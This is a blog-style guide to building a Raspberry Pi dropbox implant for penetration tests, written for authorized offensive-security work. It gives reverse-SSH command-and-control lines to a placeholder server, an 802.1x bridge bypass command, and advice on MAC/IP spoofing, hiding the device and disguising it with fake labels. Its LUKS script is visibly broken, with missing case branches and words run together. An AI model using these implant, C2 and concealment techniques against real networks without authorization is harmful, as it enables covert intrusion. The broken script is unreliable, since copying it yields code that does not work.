Raspberry Pi 4

Sometimes, especially in the time of COVID-19, you can’t go onsitefor a penetration test. Or maybe you can only get in briefly on a physical test, and want to leave behind a dropbox (literally, a box that can be “dropped” in place and let the tester leave, no relation to the file-sharing company by the same name) that you can remotely connect to. Of course, it could also be part of the desired test itself if incident response testing is in-scope – can they find your malicious device?

In all of these cases, one great option is a small single-board computer, the best known of which is the Raspberry Pi. It’s inexpensive, compact, easy to come by, and very flexible. It may not be perfect in every case, but it gets the job done in a lot of cases.

I’ll use this opportunity to discuss thesetups I’ve done in the past and the things I would change when doing it again or alternatives I considered. I hope some will find this useful. Some familiarity with the Linux command line is assumed.

Table of Contents

General Principles of Dropboxes

As mentioned above, a dropbox is a device that you can connect to the target network and leave behind. (In anauthorized test, you’d likely get your hardware back at the end, but it’s always possible that someone steals/destroys/etc. your device.) This serves as your foothold into the target network.

For some penetration tests, you’ll be able to provide your contact the dropbox and have them connect it to the network. This can allow you to have an internally scoped test but not require your physical presence at their site. This can be useful to avoid travel costs (or, currently, avoid COVID-19). In this case, you’ll have an agreed-upon network segment that it will be connected to. (Commonly, this will be a network segment with workstations as opposed to a privileged segment.)

If you’re going physical and want to leave a dropbox behind, you’ll have to be more opportunistic about things. You’ll get whatever network segment you get, so you might want to consider dropping a couple of devices if the opportunity presents itself.

In all these cases, you’ll need to remotely control the dropbox over some network connection, and then operate it to perform your attacks.

Connecting Back

You’ll almost always want your dropbox to initiate an outbound connection for remote control. You’ll almost always be behind NAT or a firewall on the target network, and dynamic IP addressing would likely make it hard to find your implant anyway. There’s two different major approaches: “in band”,where your command and control (C2) traffic goes out via the target network you’re connected to, and “out of band” where your C2 is via a separate dedicated connection.

In Band

The easiest approach isto go with an “in band” C2 connection. In this case, you tunnel your traffic out on the same physical connection as you’ve connected to your target network. This is very straightforward when the right conditions exist, since you just need power and the one network connection. Unfortunately, those right conditions are several:

  • No Network Access Control, or NAC that allows access to the internet
  • Some form of unfettered outbound connection
  • DHCP IP Assignment on the segment

If any of these fails, you just have a little box connected to a cable that doesn’t let you do anything. There are also some risks associated with in band connections:

  • Connection might be noticed/detected by Intrusion Detection Systems (IDS)
  • Any DNS, etc., traffic would be visible

Despite the risks and requirements, this will work in a large majority of use cases, and it’s both cheap and simple to setup, which makes it both desirable and the approach I’ve taken nearly every time I’ve setup a Pi-based dropbox.

Out of Band

For an out of band connection, you need to bring your own networkconnection to the dropbox. Generally, I’ve done that with a WiFibased connection, but another popular option is to go with a cellular connection. WiFi is easier to setup, but obviously has range limitations, while a cellular connection will usually get you better range.

For WiFi, you can act as a client and connect to a guest or open network from your target, or perhaps a network of an adjacent office. Alternatively, you could run an AP mode, but then you need to stay in a relatively close range to be able to connect to your dropbox. (The AP mode really only works if you’re able to put it near a window or you can stay nearby, say in a shared office space.)

USB Cellular Dongle

For a cellular connection, themost popular option is a USB dongle that you insert a SIM card into. The nicer dongles will act like an ethernet network interface (typically via RNDIS) to give you a minimum amount of configuration, and generally will work out of the box with Linux, whereas other dongles may be a little harder to get working. I’ve used the ZTE MF833V with success in the past.

Tunnel Software

Regardless of how you connect back, you probably need some kind of tunneling software for the connection. (The exception being the case whereyou setup an AP on the Pi and connect directly to it.)

Pretty much all of these require a server as some kind of “meeting point” where both the dropbox(es) and the operator(s) connect. This gives the dropboxes a static IP or hostname to connect to that’s online all the time, and allows operator(s) behind NAT/firewalls to connect in. I use DigitalOcean to host servers for projects (as well as this blog – and if you use my link, you’ll get $100 in free credit for new users as well as support articles like this), but you can of course use any server or VPS that you have.

My favorite approach is actually using ssh to establish anoutbound connection that forwards a port back to the dropbox for its own SSH server. I realize this sounds confusing, so I hope this diagram helps:

SSH Tunnels

This is done with a command similar to the following, where then connecting to port 2222 on the server will establish a connection to the dropbox’s port 22. If you have multiple dropboxes, assign each one a different port on the server, or use 0 for port auto assignment. When using that, you’ll likely need to usenetstat to find the associated ports.

ssh -R 2222:localhost:22 server.example.com
# or using automatic port assignment and going to the background
ssh -f -N -R 0:localhost:22 server.example.com

If you do this on a server and then are connecting from a remote client (e.g., your laptop), you can use the ssh ProxyJump feature to connect to the dropbox through the server. For example, using the example port 2222, the following will connect to the dropbox (note the use of localhost to connect to the forwarded port):

ssh -J server.example.com -p 2222 root@localhost

Unfortunately, this may result in multiple layers of TCP, so throughput will be sub-optimal, but it works well, and I can run an SSH server on Port 443, which is effective for any network that allows HTTPS out without SSL interception. (Almostnobody, it turns out, does any kind of inspection to confirm that 443/tcp traffic is actually TLS.)

I recommend using a tool like autossh to manage your SSH connection in case the connection drops. You’ll also want to enable keepalives to both ensure the connection stays up longer, and also to enable autossh to more easily detect a loss of connectivity.

The other alternative I can recommend is to use a VPN. Previously, I would have used OpenVPN, but I have become a WireGuard convert, especially for lower powered devices like the Raspberry Pi. (The crypto used by WireGuard can sustain higher throughput on low-end devices.) The biggest downside to this is you’ll need to run UDP out, so it can be a little harder if you’re going with the “in band” approach on a restrictive network.

Setup & Challenges

One of the keys is to have your dropbox ready to go when you deploy it. Depending on your approach, someone else might be deploying it (if a remote engagement, or if someone else is doingyour physical testing), you might not have much time, or there might be other constraints. In any case, you want to make sure it’s ready to go when you are.

Among other things, this means having the tools you’ll want already set up (you don’t want to waste time and bandwidth installing new tools once the dropbox is in place), having your connection(s) set up, and having contingency plans in case something goes wrong.

One way to have a lot of tools ready to go is to use one of the ARM images for Kali Linux provided by Offensive Security. They’re not perfect, but they’re a great jumping off point for your own custom image. Alternatively, you can install the tools you want on a base Raspberry Pi OS (formerly Raspbian) image. It really depends on what you’re comfortable with.

My general approach is to write the base image to the SD card and load up a Raspberry Pi. I’ll configure authentication (passwords and keys), install the software I want,and setup the connection back to my remote server. Once I have things working properly, I’ll make a full image backup of the SD card. Usually I do something like the following to make the backup, assuming the SD card is /dev/mmcblk0:

dd if=/dev/mmcblk0 bs=4M | bzip2 -9 > sdcard.img.bz2

The compression helps because, at this point, the card will be mostly empty so there’s no point in taking up space with all the blank blocks.


If you’re going to rely on this dropbox as your primary way into a target network, you want to make sure it’s as reliable and resilient as possible.There’s some things you just won’t be able to control for, like hardware failure, someone finding your dropbox, or the network port you’re connected to going dark on you. (Placing more than one device, of course, can be insurance against all of those.)

One common complaint with Raspberry Pis in any situation has to do with filesystem corruption from unclean shutdown and incomplete writes to the SD cards. I’ve done some experimentation with this and found some ways to reduce the risk, but nothing I’ve tried or read will completely eliminate it.

MicroSD Card

One way to reduce the risk of corruption is to use a quality SD card. While incomplete writes can be a problem with any card, it seems that some cards are more prone to data loss than others. Maybe this has to do with erase block size, or with reporting writes as finished before they’re done, or with wear-leveling strategies. It’s not clear to me what the difference is, but my greatest level of success has been with Samsung Evo MicroSD cards. I’ve also had good luck with PNY SD cards, even though they’re a somewhat lesser known brand.

Another way to reduce corruption is to minimize writes to the filesystem when it’s running. This is another benefit of having the software pre-installed and configured – you know those writes won’t be what corrupts your filesystem. Mounting /var/log and /tmp as tmpfs helps a lot as well, but does limit what you can store there based on how much RAM the Pi you’re using has. (This was a significant limitation on versions before the Pi 4B.) Alternatively, you can give them a separate partition, so at least if the filesystem is corrupted, you don’t lose your root filesystem at the same time.

You can configure the tmpfs option by adding lines to /etc/fstab like this:

echo 'tmpfs /tmp tmpfs rw,nodev,noexec,nosuid,size=256M,mode=1700 0 0' >> /etc/fstab
echo 'tmpfs /var/log tmpfs rw,nodev,noexec,nosuid,size=256M,mode=750 0 0' >>/etc/fstab

Another area to consider for reliability is your command and control system. Regardless of your C2 strategy, you may want to consider implementing a backup communications system, such as a slow, infrequently-polling DNS based mechanism. This both provides an alternate in case your primary mechanism fails, and can use a different network interface as a backup.

Yet another concern is the temporary failure of your network link. Having some kind of watchdog to restart your network connection when it can’t reach your server may prove useful.


The exact software you need will depend on the type of engagement you’re performing. At a minimum, you’ll always need your connection for control of the device, and you’ll want some tools for network enumeration and attacks. You probably also want a way to tunnel arbitrary traffic, either via SSH port forwards or SOCKS proxy emulation, or a full proxy on the device. I usually build mine with at least the following:

  • SSH
  • tmux/screen
  • Wireguard
  • nmap
  • tshark/tcpdump
  • Metasploit
  • bettercap

Depending on your engagement, you might want some things like pre-built payloads for various circumstances.

Confidentiality/Data Protection

Like everything else you do as a penetration tester or red teamer, it’s important to protect your client’s data. Whatever you choose to use for your control connection should be encrypted, but it’s also a good idea to encrypt any sensitive data that’s at rest on the dropbox in casesomeone locates it and takes it (and feels like examining the contents of the SD card).

One obvious option is to encrypt everything, such as with full-disk encryption, but since you won’t be able to unlock the device on boot, this isn’t as easy an option. There are ways to remotely unlock with an SSH server in an initramfs, but that adds complexity and risk of failures.

Instead, having a dedicated data partition that’s encrypted is a good tradeoff that will still offer protection for the data in the case the SD card is examined. I like to use LUKS for this – it’s easy enough to setup and well-studied for the use case. Unfortunately, Broadcom didn’t license the ARM crypto extensions, so performance is not great, but XTS mode is a couple of times faster than CBC mode, so make sure you use that.

% cryptsetup benchmark
#     Algorithm |       Key |      Encryption |      Decryption
        aes-cbc        128b        23.8 MiB/s        77.6 MiB/s
        aes-cbc        256b        17.2 MiB/s        58.9 MiB/s
        aes-xts        256b        85.0 MiB/s        75.1 MiB/s
        aes-xts        512b        65.4 MiB/s        57.4 MiB/s

(Benchmarks taken from a Raspberry Pi 4B with 4GB of RAM.)

Depending on your threat model, you can either mount with a random key on each boot (so if the device is rebooted, all data is lost, including for you), or mount the encrypted partition on the first connection after each boot using a key stored either on your server or your client machines.Let’s say you want to encrypt all the data to be stored in /data with a random key in each boot, and you’re using /dev/mmcblk0p3 as the underlying partition to be used to store the data. (This is after the /boot and / partitions on the SD card.) You’ll need to setup /etc/crypttab to enable the encryption and /etc/fstab for the filesystem mounting.

mkdir /data
echo 'datacrypt /dev/mmcblk0p3 /dev/urandom cipher=aes-xts-plain64:sha256,size=256,nofail,tmp' >> /etc/crypttab
echo '/dev/mapper/datacrypt /data ext4 defaults,noatime 0 0' >> /etc/fstab

To unlock /data using a remote key, we won’t use crypttab, but instead invoke cryptsetup directly and then mount the encrypted partition. First, there’s one-time setup:

mkdir /data
chmod 000 /data
echo '/dev/mapper/datacrypt /data ext4defaults,noatime 0 0' >> /etc/fstab

Then copy the following script to /root/cryptsetup.sh:


set -ue


case "${1:-unlock}" in
    FIFOD=$(mktemp -d)
    trap "rm -rf ${FIFOD}" SIGINT SIGTERM ERR EXIT
    mkfifo ${FIFOD}/f1
    mkfifo ${FIFOD}/f2
        cryptsetup luksFormat -b 256 -c aes-xts-plain64 "${DEVICE}" ${FIFOD}/f1
        cryptsetup luksOpen --key-file ${FIFOD}/f2 "${DEVICE}" "${NAME}"mkfs.ext4 "/dev/mapper/${NAME}"
        mount "/dev/mapper/${NAME}"
    ) &
    tee ${FIFOD}/f1 | tee ${FIFOD}/f2 >/dev/null
    echo "Successfully created."
    cryptsetup luksOpen --key-file - "${DEVICE}" "${NAME}"
    mount /dev/mapper/datacrypt
    echo "Successfully unlocked/mounted."
    echo "Unknown operation!" >/dev/stderr
    exit 1

This script uses key data provided over standard input to either create or unlock the data partition. Then you can unlock the data partition remotely by running the script:

dd if=/dev/urandom of=keyfile bs=64count=1
# Create the filesystem
ssh root@raspberrypi /root/cryptsetup.sh create < keyfile
# Mount the filesystem on subsequent boots
ssh root@raspberrypi /root/cryptsetup.sh < keyfile

Network Access Control

If you’re unlucky, you’ll wind up on a network port with Network Access Control. Obviously, if you’re doing a coordinated remote test where the dropbox is placed by the IT staff of the target organization, this can be dealt with administratively. However, if you’re on a penetration test where the dropbox is opportunistic/part of the physical engagement, then this may be something you need to overcome.

One way to address this is just to find ports that are not configured for any form of NAC. While that sounds like it might be a long ask, there’s usually plenty on the network that’s not dealing with the NAC implementation. Printers, cameras, “IoT” devices and more may all not be capable of interfacing with the NAC solution. You can find an unused port, replace a device (with the increased risk of detection that brings), add your own network switch (I like these little USB-powered switches), or usea 2nd wired network interface on the dropbox. (On the Pi, this will need to be connected via USB.)

For MAC- or 802.1x-based NAC, a good approach is the use of two network interfaces bridged together. In both cases, the goal is to make your implant indistinguishable from the legitimate host on the network. Sometimes it’s enough to have to have the port activated by the legitimate client, but other times you’ll need to clone the MAC and IP of the device, which requires some network tricks.For 802.1x, you’ll need to configure the bridge to pass the EAPOL frames as well. This can be done by setting an option in a sysfs file for the bridge:

echo 8 > /sys/class/net/br*/bridge/group_fwd_mask

You can configure a transparent firewall setup or use a tool like FENRIR to inject traffic using spoofed MAC/IP settings. The exact requirements depend on the 802.1x setup, but in the best case, once the port is enabled by the switch, all traffic on it will be allowed until the next link down.

Dealing with custom or more complex NAC requirements is left as an exercise for the reader.


If this is an overt test, there’s no need to worry about concealment. On theother hand, for a covert test, there’s two main classes ofconcealment to be concerned about: digital concealment (network detection), and physical concealment.

For network concealment, a lot of the steps in the Network Access Control section will help, including cloning expected IP and MAC addresses. Additionally, putting minimal amounts of unexpected network traffic on the target network will help maintain stealth.

From a physical point of view, you basically have a couple of options: hidden or inconspicuous. Hidden is simple: place your dropbox behind something (e.g., a user’s PC, a printer, etc.) or in some other concealed location. I’ve personally discovered a Raspberry Pi above the false ceiling in a men’s room, connected to the “Guest” wireless network. (It wasn’t actually malicious, but part of a pilot program, but still a strange place to find a Raspberry Pi…)

Raspberry Pi Case

For something that blends in, you want something nobody will think twice about. This depends a lot on your environment, so as per usual with offensive security, recon is critical and the devil’s in the details, but a few thoughts:

  • Make it look like an appliance
  • Make it part of the environment (look like other things present)
  • Give it a plausible reason to exist

I’m a big fan of non-descript cases like this and this. I’m also a fan of misdirection in case the device is seen. For example, sticking a label on the device to identify it as an “Air Quality Monitor” or something equally benign. A bold choice is to include an email address like<healthandsafety@customer.com>. It lends an air of credence to it, butshould someone actually take it upon themselves to check with that email address, their suspicions may be aroused if the email bounces.

Other Options

Obviously, a Raspberry Pi is not the only type of device that you can use as an offensive security dropbox. There exist a handful of dedicated devices as well as a wide range of other single-board computers that can be used. The Raspberry Pi, however, is relatively cheap, easy to come by, well-documented, and with a broad software ecosystem.

Dedicated Devices

There are a few dedicated penetration testing devices out there. If you’re in this industry, you’re no doubt familiar with Hak5’s products. I’m a big fan of the Packet Squirrel as a network implant, particularly when you need to do an inline MITM, but it has nowhere near the ecosystem nor the processing power available in a Raspberr Pi. Additionally, I’ve never been able to get an out-of-band networking system working on. (Maybe I should give it another try…)

The Ace Hackware Rootabaga is another dedicated hardware implant, based on the TP-LINK MR3040, which is a small WiFi router using OpenWRT as the base of the firmware. While it claims to be a competitor to the WiFi Pineapple, thefirmware is not nearly as current. Itdefinitely lacks the ecosystem available to the Raspberry Pi (either with Debian or Kali) and is significantly less powerful. The one big advantage to the Rootabaga is it’s built-in battery, though it only lasts hours, so you may need to plan around that.

If the battery of the Rootabaga sounds attractive, you could pair a Pi with a battery bank – the bigger, the better. A 26.8Ah battery offers nearly 100Wh of energy. Given a typical power consumption of a bit under 2.5W from a Pi, you can keep going for ~40 hours on the battery. Alternatively, if PoE is available, you can put the official Raspberry Pi PoE hat on the dropbox and run from that. Unfortunately, I’m not aware of any way to pass PoE through, so you won’t be able to use that if you need to go inline on a device that’s already PoE-powered.

Alternative Single-Board Computers

Since the inception of the Raspberry Pi, there has been a whole ecosystem of clones, with names like BananaPi and OrangePi, but these don’t offer you much. They have a smaller set of documentation, a smaller set of ready-made software and distributions, and the hardware capabilities are much the same as the Raspberry Pi. It’s actually rather amazing to me how many different variants have cropped up, so if one fits your needs, you may want to consider it.


In terms of alternatives that offer benefits, there’s a couple of things I’ve looked for, mostly related to connectivity. Most prominent is multiple ethernet interfaces, like you can find on the EspressoBin or ahandful of the Raspberry Pi clones like the NanoPi R2S. There are also a number of less powerful (in terms of CPU and RAM) options available inthe portable router space. Obviously, running on the vendor firmware doesn’t give you a lot of options, so I look exclusively for devices that are well-supported by OpenWRT. GL.iNet specializes in this space, and I’ve used several of their AR-750S “Slate” Portable Router for various projects, though it’s not the most inconspicuous device ever.

Small Form Factor PC Dropbox

If, on the other hand, you’re looking for as much local processing power and/or storage as you can get, you can get a very small form factor PC like the Intel NUC, or even small PCs designed for firewall usage, like devices from Protectli. These use x86 processors and can have features like AES-NI, more RAM, and can usemSATA or m.2 SSDs. They’re more conspicuous, more expensive (though given the typical cost of a penetration testing engagement, probably not relevant), and more power-hungry (almost all the other options can be powered off USB).

I’m certainly not the first to discuss using a Raspberry Pi as a penetration testing dropbox, and there have been some cool projects in this space before. There’s this great project where a Raspberry Pi is embedded in a power strip. Unfortunately, their original project page is no longer online.

Artifice Security has aninteresting post that describes their approach to similar uses. They specifically discuss the use of the CrazyRadio Mousejack attacks, and othertechniques not covered here.